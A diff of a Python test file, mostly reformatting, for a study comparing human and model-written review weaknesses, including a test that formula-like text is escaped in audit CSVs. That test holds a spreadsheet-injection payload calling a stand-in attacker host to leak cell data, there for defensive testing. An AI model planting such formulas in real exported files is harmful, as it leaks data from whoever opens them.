@@ -28,16 +28,18 @@ CFG = issues_config()
 def fake_verdicts(table: Mapping[tuple[str, str], bool | None]) -> Any:
     """A stand-in for `issues.judge_decisions`: the verdict of each (a, b) pair from `table` (default no)."""
 
-    async def decide(judge: Any, rubric: Any, pairs: Sequence[tuple[str, str]], params: Any,
-                     structured: bool) -> list[bool | None]:  # fmt: skip
+    async def decide(
+        judge: Any, rubric: Any, pairs: Sequence[tuple[str, str]], params: Any, structured: bool
+    ) -> list[bool | None]:
         return [table.get(pair, False) for pair in pairs]
 
     return decide
 
 
 @pytest.mark.parametrize("unscored", [("h0", "e1"), ("e0", "e1")])  # a cross call, a same-side call
-def test_an_unscored_matching_call_leaves_the_review_out_and_is_counted(monkeypatch: pytest.MonkeyPatch,
-                                                                        unscored: tuple[str, str]) -> None:
+def test_an_unscored_matching_call_leaves_the_review_out_and_is_counted(
+    monkeypatch: pytest.MonkeyPatch, unscored: tuple[str, str]
+) -> None:
     # h0 ~ e0 matched, all else "no": O = {h0}, E = {h0, e1}: overlap 1/3, human-only 1/2, model-only 1/2.
     # One call unscored: as "no" it gave those same numbers silently; now the review is unscored, counted.
     monkeypatch.setattr(issues, "judge_decisions", fake_verdicts({("h0", "e0"): True}))
@@ -50,8 +52,9 @@ def test_an_unscored_matching_call_leaves_the_review_out_and_is_counted(monkeypa
     assert all(math.isnan(ratios[k]) for k in ("overlap", "human_only", "model_only"))
 
 
-def test_model_written_statements_reach_the_audit_csvs_as_text(monkeypatch: pytest.MonkeyPatch,
-                                                               tmp_path: Path) -> None:
+def test_model_written_statements_reach_the_audit_csvs_as_text(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
     """Review 7, F4: an extracted weakness that starts like a spreadsheet formula is written with a leading quote
     (weaknesses.csv, matches.csv), so opening the audit files runs nothing; the counts stay numbers."""
     import types
@@ -64,8 +67,11 @@ def test_model_written_statements_reach_the_audit_csvs_as_text(monkeypatch: pyte
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     found = inputs.StudyInputs(None, insts, Path("reviews.jsonl"))  # type: ignore[arg-type]
     monkeypatch.setattr(inputs, "load_study_inputs", lambda cfg, with_mode=False: found)
-    monkeypatch.setattr(judges, "make_judge", lambda cfg: types.SimpleNamespace(
-        cache=types.SimpleNamespace(close=lambda: None)))
+    monkeypatch.setattr(
+        judges,
+        "make_judge",
+        lambda cfg: types.SimpleNamespace(cache=types.SimpleNamespace(close=lambda: None)),
+    )
     monkeypatch.setattr(judges, "sampling_params", lambda cfg: {})
 
     async def extract(judge: Any, reviews: Any, params: Any) -> list[list[str]]:
